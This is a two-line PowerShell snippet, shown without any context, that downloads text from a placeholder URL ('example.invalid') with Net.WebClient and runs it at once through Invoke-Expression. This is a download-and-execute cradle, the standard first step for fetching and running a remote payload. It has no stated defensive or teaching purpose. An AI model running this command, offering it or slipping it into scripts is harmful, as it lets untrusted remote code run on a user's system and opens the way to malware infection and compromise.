$a = New-Object Net.WebClient
Invoke-Expression $a.DownloadString('http://example.invalid/')
